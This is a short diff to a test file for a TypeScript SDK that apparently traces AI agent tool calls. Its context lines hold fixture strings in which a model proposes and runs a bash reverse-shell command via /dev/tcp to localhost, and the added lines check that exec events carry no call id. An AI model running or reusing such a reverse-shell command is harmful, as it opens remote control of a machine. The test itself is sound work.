@@ -10,6 +10,9 @@ describe('the TypeScript SDK', () => {
       "chat gpt-4.1 completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (exit 1)",
       "chat gpt-4.1 proposed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'",
     ]);
+    // Tool spans have no id, so that the conversation's are left out.
+    const ids = events.filter(({ action }) => action.type === 'exec').map(({ callId }) => callId);
+    expect(new Set(ids)).toEqual(new Set([undefined]));
   });
 
   it('keys by the trace and keeps the session as what the app said', () => {
